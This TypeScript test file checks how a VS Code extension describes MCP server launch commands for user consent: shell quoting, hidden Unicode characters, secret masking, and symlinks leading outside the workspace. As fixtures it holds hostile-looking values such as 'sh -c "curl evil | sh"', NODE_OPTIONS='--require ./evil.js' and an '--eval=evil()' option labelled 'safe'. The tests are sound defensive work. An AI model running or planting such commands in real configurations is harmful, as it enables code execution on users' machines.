import path from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  describeForConsent,
  hidesSecrets,
  launchText,
  lineOfText,
} from '../../../../src/core/configuration/launch/describeLaunch';
import type { InputDefinition } from '../../../../src/core/configuration/configuration';
import type { LaunchDefinition } from '../../../../src/core/configuration/launch/kinds';
import type { VariablePorts } from '../../../../src/core/configuration/launch/variables';
import { define, folderSource, http, multiplying, stdio, userSource } from '../fixtures';

const prompt: InputDefinition = {
  kind: 'promptString',
  id: 'token',
  description: undefined,
  default: 'what is suggested',
  isPassword: true,
};
const command: InputDefinition = { kind: 'command', id: 'pick', command: 'shop.pick', args: { all: true } };
const choice: InputDefinition = {
  kind: 'pickString',
  id: 'mode',
  description: undefined,
  default: undefined,
  options: [
    { label: 'safe', value: '--eval=evil()' },
    { label: 'b', value: 'b' },
  ],
};

const settings: Readonly<Record<string, unknown>> = {
  tool: '${userHome}/evil ${env:USER} ${input:token}',
  'shop.token': 'configured',
  self: '${config:self}',
};
const ports: VariablePorts = {
  platform: 'linux',
  path: path.posix,
  env: { PATH: '/usr/bin', USER: 'ada' },
  userHome: '/home/ada',
  workspaceFolders: [{ name: 'shop', path: '/home/ada/shop' }],
  getSetting: (key) => settings[key],
};

describe('what a user is asked to allow', () => {
  it.each<[string, LaunchDefinition, string, ...(readonly InputDefinition[])]>([
    ['a command', stdio({ args: ['server.js'] }), 'node server.js'],
    ['words with blanks', stdio({ args: ['a b', 'c\td', ''] }), String.raw`node 'a b' 'c\u{9}d' ''`],
    [
      'words with quotes, which stay one word each',
      stdio({ args: [`a' 'b`, '"', '`x`', '$(x)'] }),
      String.raw`node "a' 'b" '"' '${'`x`'}' '$(x)'`,
    ],
    [
      'words with quotes that mean something in double quotes, too',
      stdio({ args: [`'$x'`, `'\\`, `'!`] }),
      String.raw`node ''\''$x'\''' ''\''\' ''\''!'`,
    ],
    [
      'words that look like what is said of others',
      stdio({ args: ['x · reads the file .env', '(= /safe)'] }),
      `node 'x · reads the file .env' '(= /safe)'`,
    ],
    [
      'characters that are not seen, or show the others in another order',
      stdio({ command: 'node\u202e', args: ['a\u200bb', '\u3164'] }),
      String.raw`'node\u{202e}' 'a\u{200b}b' '\u{3164}'`,
    ],
    [
      'variables by their names, and what an input suggests',
      stdio({ args: ['${input:token}'] }),
      "node ${input:token} · default for ${input:token}: 'what is suggested'",
      prompt,
    ],
    [
      'the folder, the environment with its values, and a file of variables',
      stdio({ cwd: 'a b', env: { NODE_OPTIONS: '--require ./evil.js', OLD: null, 'A B': 'c' }, envFile: '.env' }),
      `node · in the folder 'a b' · sets the variable NODE_OPTIONS='--require ./evil.js' · removes the variable OLD · sets the variable 'A B'=c · reads the file .env`,
    ],
    [
      'an address, and headers with their values',
      http('https://example.com/mcp?a=b', { Accept: 'a b', 'X-Mode': '${env:MODE}' }),
      `'https://example.com/mcp?a=b' · sends the header Accept: 'a b' · sends the header X-Mode: \${env:MODE}`,
    ],
    [
      'headers that go over a network unencrypted',
      http('http://shop.example/mcp', { 'X-Mode': 'fast' }),
      'http://shop.example/mcp · sends the header X-Mode: fast · sends these headers unencrypted',
    ],
    [
      'the command of an input with its arguments, and the choices of another',
      stdio(),
      `node · runs the VS Code command shop.pick '{"all":true}' · options for \${input:mode}: '--eval=evil()' (safe), b`,
      command,
      choice,
    ],
    [
      'a command that the environment names',
      stdio({ env: { TOKEN: '${command:shop.token}' } }),
      'node · sets the variable TOKEN=${command:shop.token} · runs the VS Code command shop.token',
    ],
    [
      'a command that a header names',
      http(undefined, { 'X-Key': 'Bearer ${command:shop.token}' }),
      `https://example.com/mcp · sends the header X-Key: 'Bearer \${command:shop.token}' · runs the VS Code command shop.token`,
    ],
    [
      'nothing that never runs',
      stdio({ args: ['${command}', '${command:}', '${command:${input:token}}'] }),
      'node ${command} ${command:} ${command:${input:token}}',
    ],
  ])('has %s', (_, launch, shown, ...inputs) => {
    expect(describeForConsent(define(launch, folderSource, inputs))).toBe(shown);
  });

  it.each<[string, LaunchDefinition, string]>([
    [
      'what a folder resolves to',
      stdio({ args: ['${workspaceFolder}/x'] }),
      'node ${workspaceFolder}/x (= /home/ada/shop/x)',
    ],
    [
      'where a path leads',
      stdio({ command: '~/x', cwd: 'a', envFile: '~/.env' }),
      '~/x (= /home/ada/x) · in the folder a (= /home/ada/shop/a) · reads the file ~/.env (= /home/ada/.env)',
    ],
    [
      'the value of a setting, but of no variable or input in it',
      stdio({ command: '${config:tool}' }),
      "${config:tool} (= '/home/ada/evil ${env:USER} ${input:token}')",
    ],
    [
      'variables of the environment by their names',
      stdio({ args: ['${env:USER}', '${userHome}'] }),
      'node ${env:USER} ${userHome} (= /home/ada)',
    ],
    [
      'what cannot be resolved as it is written',
      stdio({ args: ['${config:none}', '${config:self}', '${workspaceFolder:none}', '${nonsense}'] }),
      'node ${config:none} ${config:self} ${workspaceFolder:none} ${nonsense}',
    ],
  ])('has %s', (_, launch, shown) => {
    expect(describeForConsent(define(launch), { ports })).toBe(shown);
  });

  it('has what an environment file sets, with the values that choose code', () => {
    const files: Readonly<Record<string, string>> = {
      '/home/ada/shop/.env': 'TOKEN=secret\nNODE_OPTIONS=--require evil\nA=b',
    };
    const shown = describeForConsent(define(stdio({ envFile: '.env' })), {
      ports: { ...ports, readFileNow: (file) => files[file] },
    });
    expect(shown).toBe(
      "node · reads the file .env (= /home/ada/shop/.env) · sets NODE_OPTIONS='--require evil' from this file · sets TOKEN, A from this file",
    );
  });

  it('has no value of an environment file where it is stored', () => {
    const readFileNow = (): string => 'SSH_PRIVATE_KEY=s3cret\nGEM_HOST_API_KEY=s3cret\nTOKEN=s3cret';
    const view = { ports: { ...ports, readFileNow }, hiding: 'byName' } as const;
    expect(describeForConsent(define(stdio({ envFile: '.env' })), view)).toBe(
      'node · reads the file .env (= /home/ada/shop/.env) · sets SSH_PRIVATE_KEY=••• from this file · sets GEM_HOST_API_KEY=••• from this file · sets TOKEN from this file',
    );
  });

  it.each([
    ['that a variable of the environment names', '${env:FILE}', { env: { FILE: 'a.env' } }],
    ['that was asked for', '${input:stage}.env', { askedEnvFiles: true }],
  ])(
    'has what an environment file sets %s',
    (_, envFile, { env, askedEnvFiles }: { env?: object; askedEnvFiles?: boolean }) => {
      const definition = define(stdio({ envFile }));
      const path = '/home/ada/shop/a.env';
      const shown = describeForConsent(definition, {
        ports: {
          ...ports,
          env: { ...env },
          readFileNow: (file) => (file === path ? 'PATH=/evil' : undefined),
          ...(askedEnvFiles && { askedEnvFiles: new Map([[definition.hash, path]]) }),
        },
      });
      expect(shown).toBe(`node · reads the file ${envFile} · sets PATH=/evil from this file`);
    },
  );

  it('has the folder of the window where a server of the user names it', () => {
    const definition = define(stdio({ args: ['${workspaceFolder}'] }), userSource);
    expect(describeForConsent(definition, { ports })).toBe('node ${workspaceFolder} (= /home/ada/shop)');
  });
});

describe('a literal value that looks like a secret', () => {
  const launch = stdio({
    args: ['--token', 'shown'],
    env: {
      API_KEY: 'k',
      MY_PASSWORD: 'p',
      client_secret: 's',
      TOKEN: 'a${input:token}b',
      PLAIN: '${config:shop.token}',
    },
  });

  it('is hidden, with what else is in its place to be seen, until the user wants to see it', () => {
    const definition = define(launch);
    expect([
      describeForConsent(definition, { ports }),
      describeForConsent(definition, { ports, hiding: 'none' }),
    ]).toEqual([
      'node --token shown · sets the variable API_KEY=••• · sets the variable MY_PASSWORD=••• · sets the variable client_secret=••• · sets the variable TOKEN=•••${input:token}••• · sets the variable PLAIN=${config:shop.token} (= •••)',
      'node --token shown · sets the variable API_KEY=k · sets the variable MY_PASSWORD=p · sets the variable client_secret=s · sets the variable TOKEN=a${input:token}b · sets the variable PLAIN=${config:shop.token} (= configured)',
    ]);
  });

  it.each([
    ['a header', http(undefined, { authorization: 'Bearer abc' }), true],
    ['a header with a variable only', http(undefined, { authorization: 'Bearer ${input:token}' }), false],
    ['a variable', stdio({ env: { KEY: 'k' } }), true],
    ['a setting in a header', http(undefined, { 'X-A': '${config:shop.token}' }), true],
    ['a setting that is an argument', stdio({ args: ['${config:shop.token}'] }), false],
    ['a variable that chooses code', stdio({ env: { GIT_CONFIG_KEY_0: 'core.pager' } }), false],
    ['nothing', stdio({ env: { MODE: 'k' } }), false],
  ])('is known of %s', (_, definition, hides) => {
    expect(hidesSecrets(define(definition), ports)).toBe(hides);
  });
});

describe('what decides what runs', () => {
  const evil = 'sh -c "curl evil | sh"';
  const places = {
    command: '${config:keyboard.runner}',
    args: ['${config:shop.token}'],
    cwd: '${config:oauth.folder}',
    envFile: '${config:secret.file}',
    env: {
      NODE_OPTIONS: '${config:api.key}',
      GIT_CONFIG_KEY_0: 'core.sshCommand',
      NPM_TOKEN: 'abc',
      APP_TOKEN: '${config:api.key}',
    },
  };
  const definition = define(stdio(places), folderSource, [prompt]);
  const evilPorts = { ...ports, getSetting: () => evil };

  it('is never hidden from a review, whatever its setting or variable is called', () => {
    const file = `'/home/ada/shop/${evil}'`;
    expect(describeForConsent(definition, { ports: evilPorts }).split(' · ')).toEqual([
      `\${config:keyboard.runner} (= '${evil}') \${config:shop.token} (= '${evil}')`,
      `in the folder \${config:oauth.folder} (= ${file})`,
      `sets the variable NODE_OPTIONS=\${config:api.key} (= '${evil}')`,
      'sets the variable GIT_CONFIG_KEY_0=core.sshCommand',
      'sets the variable NPM_TOKEN=•••',
      'sets the variable APP_TOKEN=${config:api.key} (= •••)',
      `reads the file \${config:secret.file} (= ${file})`,
      "default for ${input:token}: 'what is suggested'",
    ]);
  });

  it.each([
    'GOAUTH',
    'CARGO_REGISTRIES_TOKEN_CREDENTIAL_PROVIDER',
    'RESTIC_PASSWORD_COMMAND',
    'ANSIBLE_VAULT_PASSWORD_FILE',
    'AWS_SHARED_CREDENTIALS_FILE',
  ])('is shown in %s', (name) => {
    expect(describeForConsent(define(stdio({ env: { [name]: './evil.js' } })), { ports })).toContain('=./evil.js');
  });

  it('is shown without what settings multiply to: the start fails for it', () => {
    const getSetting = (key: string): unknown => multiplying[key];
    const shown = describeForConsent(define(stdio({ args: ['${config:x.a}'] })), { ports: { ...ports, getSetting } });
    expect([shown.length < 200_000, shown.startsWith('node ${config:x.a} (= ')]).toEqual([true, true]);
  });

  it('is stored without what may be a secret', () => {
    const stored = describeForConsent(definition, { ports: evilPorts, hiding: 'byName' });
    expect([stored.match(/•••/gu)?.length, /curl|abc|suggested/u.test(stored)]).toEqual([8, false]);
  });
});

describe('a value that was saved for an input', () => {
  it('is named in the review of each server that gets it, and not stored with the answer', () => {
    const view = { ports: { ...ports, hasSaved: (input: InputDefinition) => input.id === 'token' } };
    const definition = define(http(undefined, { A: '${input:token}' }), folderSource, [
      { ...prompt, default: undefined },
      choice,
    ]);
    const saved = 'gets the value saved for ${input:token}';
    const shown = [describeForConsent(definition, view), describeForConsent(definition, { ...view, hiding: 'byName' })];
    expect(shown.map((text) => text.split(' · ').includes(saved))).toEqual([true, false]);
  });
});

describe('a link of the repository that leads out of the workspace', () => {
  const links: Record<string, string> = {
    '/home/ada/shop/.env': '/home/ada/.ssh/environment',
    '/home/ada/shop/in.env': '/home/ada/shop/a/.env',
    '/home/ada/shop/.vscode/mcp.json': '/srv/mcp.json',
  };
  const linkPorts = { ...ports, realPath: (file: string) => links[file] ?? file };
  const shown = (envFile: string, source = folderSource): readonly string[] =>
    describeForConsent(define(stdio({ envFile }), source), { ports: linkPorts })
      .split(' · ')
      .filter((line) => line.includes('link'));

  it('is shown with its target, for the file of the server and for its variables', () => {
    const own = '/home/ada/shop/.vscode/mcp.json is a link to /srv/mcp.json, outside the workspace';
    expect(shown('a/../.env')).toEqual([
      own,
      '/home/ada/shop/.env is a link to /home/ada/.ssh/environment, outside the workspace',
    ]);
    links['/home/ada/shop/deep/../../.env'] = '/srv/.env';
    expect(shown('${workspaceFolder}/deep/../../.env')).toEqual([
      own,
      '/home/ada/shop/deep/../../.env is a link to /srv/.env, outside the workspace',
    ]);
    expect([shown('in.env'), shown('~/.env'), shown('.env', userSource)]).toEqual([[own], [own], []]);
  });
});

describe('the text to read before a server is allowed', () => {
  it('has a line for each thing that decides what runs, unbroken, and counts blanks that would hide the rest', () => {
    const args = ['a', `-e ${' '.repeat(150)}evil()`, 'b'.repeat(97)];
    const text = launchText(define(stdio({ args, cwd: '/tmp' })), { ports });
    const command = String.raw`node a '-e\u{20}×151evil()' ${'b'.repeat(97)}`;
    expect(text.split('\n')).toEqual([
      'The MCP server “notes” in .vscode/mcp.json runs:',
      command,
      'in the folder /tmp',
    ]);
    expect(lineOfText(text)).toBe(`${command} · in the folder /tmp`);
  });

  it('is on one line as the words that were shown, also of an address, and with the blanks and breaks of words', () => {
    const url = `https://example.com/${'path/'.repeat(30)}`;
    const args = [`${'a'.repeat(47)} b\n c`, '/home/ada/data/notes/of/a/long/path/changes.json'];
    const both = [define(http(url, { A: 'b' })), define(stdio({ args }))];
    expect(both.map((one) => lineOfText(launchText(one)))).toEqual(both.map((one) => describeForConsent(one)));
  });

  it('does not begin with a name that could stand in for it', () => {
    const name = `fs” in mcp.json runs: npx good${' '.repeat(2_000)}`;
    const [heading = ''] = launchText({ ...define(stdio({ args: [] })), name }).split('\n');
    expect(heading.length).toBeLessThan(120);
  });

  it('says where it connects to', () => {
    expect(launchText(define(http(undefined, { Accept: 'x' })))).toBe(
      'The MCP server “notes” in .vscode/mcp.json connects to:\nhttps://example.com/mcp\nsends the header Accept: x',
    );
  });
});
